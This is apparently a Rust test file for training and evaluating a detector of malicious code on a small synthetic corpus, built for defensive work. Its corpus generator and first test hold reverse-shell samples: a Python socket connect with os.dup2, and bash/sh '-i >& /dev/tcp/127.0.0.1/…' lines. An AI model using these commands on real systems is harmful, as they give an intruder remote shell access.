//! Training and evaluation, whole, on a small corpus of imitations that is made here.

#![allow(clippy::unwrap_used, reason = "a test stops at what it does not expect")]

use detect::Detector;
use evidence::{Label, Language};
use learn::{EvalOptions, LearnError, Split, TrainOptions, Trained};
use std::fmt::Write;
use std::path::{Path, PathBuf};

/// Lines for `count` clusters of each label in both languages.
fn corpus_lines(count: usize) -> String {
    let mut lines = String::new();
    for at in 0..count {
        let texts = [
            (
                "python",
                "malicious",
                format!(
                    "import socket,os\ns=socket.socket()\ns.connect(('127.0.0.1',{at}))\nos.dup2(s.fileno(),0) # {at}"
                ),
            ),
            (
                "python",
                "benign",
                format!("def total_{at}(rows):\n    return sum(row.price for row in rows) + {at}\n"),
            ),
            ("bash", "malicious", format!("bash -i >& /dev/tcp/127.0.0.1/{at} 0>&1 # {at}")),
            ("bash", "benign", format!("set -e\nmake -j{at} test\necho finished {at}\n")),
        ];
        for (lang, label, text) in texts {
            let line = serde_json::json!({
                "label": label, "lang": lang, "text": text, "source": format!("source-{}", at % 7),
                "cluster": format!("{lang}-{label}-{at}"), "label_confidence": "high",
            });
            writeln!(lines, "{line}").unwrap();
        }
    }
    lines
}

fn folder_with(name: &str, lines: &str) -> (tempfile::TempDir, PathBuf) {
    let folder = tempfile::tempdir().unwrap();
    let path = folder.path().to_owned();
    std::fs::write(path.join(name), zstd::encode_all(lines.as_bytes(), 1).unwrap()).unwrap();
    (folder, path)
}

fn options(corpus: &Path) -> TrainOptions {
    TrainOptions { corpora: vec![corpus.to_owned()], folds: 2, imitations: 2, ..TrainOptions::default() }
}

fn train(corpus: &Path) -> Trained {
    learn::train(&options(corpus), &mut |_| {}).unwrap()
}

#[test]
fn a_model_is_trained_measured_and_used_and_bad_lines_are_counted() {
    let mut lines = corpus_lines(40);
    lines.push_str("{\"label\": \"malicious\", \"lang\": \"perl\", \"text\": \"\"}\nnot json\n\n{}\n");
    let (_folder, corpus) = folder_with("made.jsonl.zst", &lines);
    let mut stages = 0;
    let trained = learn::train(&options(&corpus), &mut |_| stages += 1).unwrap();
    assert!(stages > 10);
    assert_eq!(trained.report.corpus.samples, 160);
    assert_eq!(trained.report.corpus.corrupt, [("made.jsonl.zst".to_owned(), 3)]);
    assert_eq!(trained.report.languages.len(), 2);
    for language in &trained.report.languages {
        assert_eq!((language.malicious_clusters, language.benign_clusters), (40, 40));
        assert!(language.recall.iter().all(|at| at.recall > 0.9), "{language}");
    }
    let detector = Detector::from_bytes(&trained.model).unwrap();
    assert_eq!(detector.model_id(), trained.model_id);
    let attack = b"sh -i >& /dev/tcp/127.0.0.1/99 0>&1";
    assert_eq!(detector.judge(Language::Shell, (attack, b"")).label, Label::Malicious);
    assert_eq!(detector.judge(Language::Shell, (b"set -e\nmake test\n", b"")).label, Label::Benign);
    let table = trained.report.to_string();
    assert!(table.contains("3 unreadable lines") && table.contains("recall at  0.10 %"), "{table}");
}

#[test]
fn the_same_seed_gives_the_same_model() {
    let (_folder, corpus) = folder_with("made.jsonl.zst", &corpus_lines(10));
    assert!(train(&corpus).model == train(&corpus).model);
}

#[test]
fn a_method_is_measured_on_whole_sources_too() {
    let (_folder, corpus) = folder_with("made.jsonl.zst", &corpus_lines(20));
    let options = EvalOptions { split: Split::Source, training: options(&corpus) };
    let report = learn::evaluate(&[corpus], &options, &mut |_| {}).unwrap();
    assert!(report.split.contains("whole sources"));
    assert_eq!(report.languages.len(), 2);
    serde_json::to_string(&report).unwrap();
}

#[test]
fn a_corpus_that_is_missing_or_one_sided_is_refused() {
    let empty = tempfile::tempdir().unwrap();
    let refused = |corpus: &Path| learn::train(&options(corpus), &mut |_| {}).unwrap_err();
    assert!(matches!(refused(empty.path()), LearnError::NoCorpus(_)));
    assert!(matches!(refused(&empty.path().join("none")), LearnError::Unreadable { .. }));
    let lines: String = corpus_lines(5)
        .lines()
        .filter(|line| line.contains("benign"))
        .map(|line| format!("{line}\n"))
        .collect();
    let (_folder, corpus) = folder_with("made.jsonl.zst", &lines);
    assert!(matches!(refused(&corpus), LearnError::TooFew("malicious")));
}

#[test]
fn a_damaged_file_counts_up_to_the_damage() {
    let (_folder, corpus) = folder_with("good.jsonl.zst", &corpus_lines(10));
    let mut damaged = zstd::encode_all(corpus_lines(500).as_bytes(), 1).unwrap();
    damaged.truncate(damaged.len() / 2);
    std::fs::write(corpus.join("torn.jsonl.zst"), damaged).unwrap();
    let report = train(&corpus).report;
    assert_eq!(report.corpus.corrupt, [("torn.jsonl.zst".to_owned(), 1)]);
}
